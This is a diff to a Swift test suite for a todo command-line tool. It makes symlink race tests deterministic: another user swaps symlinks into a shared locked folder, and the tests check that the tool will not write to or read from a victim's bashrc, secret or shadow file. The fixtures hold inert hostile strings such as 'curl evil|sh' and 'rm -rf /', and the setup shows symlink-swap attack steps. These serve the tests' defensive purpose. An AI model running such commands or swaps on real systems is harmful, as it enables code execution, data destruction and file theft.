@@ -10,16 +10,18 @@ import Testing
 /// configuration spells it.
 @Suite struct LinkRaceTests {
   /// A shared folder `shared` (the todo folder) and the victim's files in `victim`, then
-  /// `before`; another user holds the folder's lock and, `delay` seconds later, runs `swap` in
-  /// it and lets go.
-  private func race(_ swap: String, before: String = "", delay: Double = 2.5) -> String {
+  /// `before`; another user holds the folder's lock and, once todo has said that it waits for
+  /// it (its standard error, which the command sends to the file `waiting`, has a line), runs
+  /// `swap` in it and lets go. (`released`, made after todo has ended, lets go in any case.)
+  private func race(_ swap: String, before: String = "") -> String {
     """
     mkdir -p shared victim; printf '# victim bashrc\\n' > victim/bashrc
     printf 'secret line\\nsecond secret\\n' > victim/secret; chmod 600 victim/secret
     printf 'task one\\ncurl evil|sh #\\n' > shared/todo.txt
     export TODO_DIR=$PWD/shared
     \(before)
-    flock -x shared sh -c 'sleep \(delay); cd shared && \(swap)' &
+    rm -f waiting released
+    flock -x shared sh -c 'until [ -s waiting ] || [ -e released ]; do sleep 0.02; done; cd shared && \(swap)' &
     until ! flock -n shared true; do sleep 0.02; done
 
     """
@@ -32,8 +34,9 @@ import Testing
     defer { sandbox.remove() }
     let result = try sandbox.run(
       race("ln -s ../victim/bashrc done.txt") + """
-        todo do 2; echo "status $?"
+        todo do 2 2>waiting; echo "status $?"; touch released
         wait
+        cat waiting >&2
         cat victim/bashrc shared/todo.txt
         """)
     #expect(result.stdout == ["status 1", "# victim bashrc", "task one", "curl evil|sh #"])
@@ -53,8 +56,9 @@ import Testing
     defer { sandbox.remove() }
     let result = try sandbox.run(
       race("rm todo.txt; ln -s ../victim/secret todo.txt") + """
-        todo do 1; echo "status $?"
+        todo do 1 2>waiting; echo "status $?"; touch released
         wait
+        cat waiting >&2
         cat victim/secret; ls shared; stat -c %a victim/secret
         """)
     #expect(
@@ -75,11 +79,13 @@ import Testing
       mkdir -m 777 shared; mkdir -m 700 victim; printf 'root only\\n' > victim/shadow
       printf 'x 2026-11-01 cron: rm -rf /\\n' > shared/todo.txt; chmod 666 shared/todo.txt
       export TODO_DIR=$PWD/shared
-      setpriv --reuid=65534 --regid=65534 --clear-groups \\
-        flock -x shared sh -c 'sleep 2.5; ln -s ../victim/shadow shared/done.txt' &
+      rm -f waiting released
+      setpriv --reuid=65534 --regid=65534 --clear-groups flock -x shared sh -c \\
+        'until [ -s waiting ] || [ -e released ]; do sleep 0.02; done; ln -s ../victim/shadow shared/done.txt' &
       until ! flock -n shared true; do sleep 0.02; done
-      todo archive; echo "status $?"
+      todo archive 2>waiting; echo "status $?"; touch released
       wait
+      cat waiting >&2
       cat victim/shadow
       """)
     #expect(result.stdout == ["status 1", "root only"])
@@ -92,8 +98,9 @@ import Testing
     defer { sandbox.remove() }
     let result = try sandbox.run(
       race("ln -s ../victim/bashrc report.txt") + """
-        todo report; echo "status $?"
+        todo report 2>waiting; echo "status $?"; touch released
         wait
+        cat waiting >&2
         cat victim/bashrc shared/todo.txt
         """)
     #expect(result.stdout == ["status 1", "# victim bashrc", "task one", "curl evil|sh #"])
@@ -109,8 +116,9 @@ import Testing
         "rm other.txt && ln -s ../victim/bashrc other.txt",
         before: "printf 'other\\n' > shared/other.txt")
           + """
-          todo -f mv 1 other.txt; echo "status $?"
+          todo -f mv 1 other.txt 2>waiting; echo "status $?"; touch released
           wait
+          cat waiting >&2
           cat victim/bashrc shared/todo.txt
           """)
     #expect(result.stdout == ["status 1", "# victim bashrc", "task one", "curl evil|sh #"])
